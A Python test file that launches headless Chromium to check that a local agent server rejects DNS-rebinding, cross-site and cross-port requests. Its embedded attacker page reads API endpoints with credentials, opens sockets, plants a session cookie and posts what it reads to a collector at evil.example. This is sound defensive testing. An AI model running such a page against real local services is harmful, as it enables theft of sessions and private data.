# SPDX-License-Identifier: Apache-2.0
"""Hostile pages in a real browser: one whose name comes to mean this machine, one of another site, one of another port."""

import contextlib
import http.server
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import unittest

import house
import serving

PROGRAM = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run",
         "--disable-dev-shm-usage", "--disable-features=Translate,MediaRouter,OptimizationHints", "--proxy-server=direct://",
         "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]

# What each page tries against BASE: it reports what it could read, by name.
PAGE = """<!doctype html><title>x</title><script>
const tell = (path, what) => fetch("%(collector)s" + path, {method: "POST", mode: "no-cors", body: JSON.stringify(what)});
const base = "%(base)s", got = {};
async function read(name, path, options) {
  try {
    const answer = await fetch(base + path, Object.assign({credentials: "include"}, options));
    got[name] = {status: answer.status, type: answer.type, body: (await answer.text()).slice(0, 2000)};
  } catch (e) { got[name] = {error: String(e)}; }
}
function socket(name, path) {
  return new Promise(done => {
    const s = new WebSocket(base.replace("http", "ws") + path);
    s.onopen = () => { got[name] = {opened: true}; done(); };
    s.onerror = () => { got[name] = {error: "refused"}; done(); };
  });
}
function events(name, path) {
  return new Promise(done => {
    const e = new EventSource(base + path, {withCredentials: true});
    e.onopen = () => { got[name] = {opened: true}; e.close(); done(); };
    e.onmessage = e.onopen;
    e.onerror = () => { got[name] = {error: "refused"}; e.close(); done(); };
  });
}
(async () => {
  %(cookie)s
  await tell("/loaded", {});
  await fetch("%(collector)s/go");
  const json = {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"};
  await read("page", "/", {});
  await read("health", "/healthz", {});
  await read("card", "/.well-known/agent-card.json", {});
  await read("agents", "/api/agents", {});
  await read("sessions", "/api/sessions", {});
  await read("me", "/api/me", {});
  await read("begin", "/api/sessions", json);
  await read("begin as text", "/api/sessions", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: "{}"});
  await read("begin blind", "/api/sessions", {method: "POST", mode: "no-cors", body: new Blob(["{}"])});
  await read("log in", "/api/login", Object.assign({}, json, {body: JSON.stringify({code: "x"})}));
  await read("respond", "/v1/responses", Object.assign({}, json, {body: JSON.stringify({model: "default", input: "x"})}));
  await read("mcp", "/mcp", json);
  await socket("socket", "/v1/responses");
  await socket("screen", "/api/sessions/s1/screen");
  await events("events", "/api/sessions/s1/events");
  await tell("/report", got);
})();
</script>"""


class Collector(http.server.ThreadingHTTPServer):
    """Gives the pages, says when they may begin, and takes their reports; the page that waits for a name has a server of its own."""

    daemon_threads = True

    def __init__(self, port=0):
        super().__init__(("127.0.0.1", port), Handler)
        self.port, self.page, self.loaded, self.reports, self.may = self.server_address[1], b"", threading.Event(), queue.Queue(), threading.Event()
        self.connections = set()
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def process_request(self, request, client_address):
        self.connections.add(request)
        super().process_request(request, client_address)

    def shutdown_request(self, request):
        self.connections.discard(request)
        super().shutdown_request(request)

    def stop(self):
        """Nothing listens any more, and nothing answers on a connection that a browser opened to have it ready."""
        self.may.set()
        self.shutdown()
        self.server_close()
        for connection in list(self.connections):
            with contextlib.suppress(OSError):  # closed already
                connection.shutdown(socket.SHUT_RDWR)


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self, body=b""):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/go":
            self.server.may.wait(house.SECONDS)
        self.answer(self.server.page if self.path == "/page" else b"")

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.answer()
        if self.path == "/report":
            self.server.reports.put(json.loads(body))
        elif self.path == "/loaded":
            self.server.loaded.set()

    def log_message(self, *_):
        pass


class Pages(serving.Served):
    def browse(self, url):
        folder = tempfile.mkdtemp(prefix="thole-chromium-")
        process = subprocess.Popen([PROGRAM, *FLAGS, "--user-data-dir=" + folder, url], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, env={**os.environ, "HOME": folder}, start_new_session=True)

        def close():
            os.killpg(process.pid, signal.SIGKILL)  # its own group, and nobody else's
            process.wait()
            shutil.rmtree(folder, ignore_errors=True)

        self.addCleanup(close)

    def collect(self):
        collector = Collector()
        self.addCleanup(collector.stop)
        return collector

    def unharmed(self, report):
        self.assertEqual(self.good_call("GET", "/api/sessions", who="boss")["sessions"], [])
        self.assertEqual(self.good_call("GET", "/api/sessions")["sessions"], [])
        self.assertEqual(len(report), 15, report)
        for name, got in report.items():
            with self.subTest(name=name):
                self.assertNotIn("opened", got)
                if "status" in got and got["status"]:  # of the page's own origin: it can read that it is refused
                    self.assertEqual(got["status"], 403, got)
                    self.assertEqual(json.loads(got["body"])["error"]["code"], "host", got)
                elif "status" in got:  # sent blindly
                    self.assertEqual((got["type"], got["body"]), ("opaque", ""))

    def test_a_name_that_comes_to_mean_us(self):
        # The page comes from evil.example at the port that thole has afterwards: to the browser it is one origin.
        collector = self.collect()
        first = Collector()
        first.page = (PAGE % {"collector": "http://evil.example:%d" % collector.port, "base": "http://evil.example:%d" % first.port, "cookie": ""}).encode()
        self.browse("http://evil.example:%d/page" % first.port)
        self.assertTrue(collector.loaded.wait(house.SECONDS))
        first.stop()
        self.serve_http(port=first.port)
        collector.may.set()
        report = collector.reports.get(timeout=house.SECONDS)
        self.unharmed(report)
        self.assertEqual({got["status"] for name, got in report.items() if name in ("page", "health", "agents", "sessions", "begin", "respond", "mcp")}, {403})
        refused = self.call("GET", "/metrics", who="boss").body.decode()
        self.assertNotIn("thole_refused_hosts_total 0\n", refused)

    def test_pages_of_another_site_and_of_another_port(self):
        # The second has the login of a person, as any server of this machine can: browsers keep cookies by host, not by port.
        self.serve_http()
        cookie = self.call("POST", "/api/login", {"token": serving.TOKENS["alice"]}, who=None).headers["Set-Cookie"].split(";")[0]
        for host, script in (("evil.example", ""), ("127.0.0.1", "document.cookie = '%s; path=/';" % cookie)):
            collector = self.collect()
            here = "http://%s:%d" % (host, collector.port)
            collector.page = (PAGE % {"collector": here, "base": "http://127.0.0.1:%d" % self.port, "cookie": script}).encode()
            collector.may.set()
            self.browse(here + "/page")
            report = collector.reports.get(timeout=house.SECONDS)
            self.unharmed(report)
            self.assertTrue(all("error" in report[name] for name in ("page", "health", "agents", "sessions", "me", "begin")), report)
        # The same login from our own page is good.
        own = {"Cookie": cookie, "Origin": "http://127.0.0.1:%d" % self.port}
        self.assertEqual(self.call("POST", "/api/sessions", {}, who=None, headers=own).status, 201)


if __name__ == "__main__":
    if not PROGRAM:
        print("not run: there is no chromium")
        sys.exit(77)
    unittest.main()
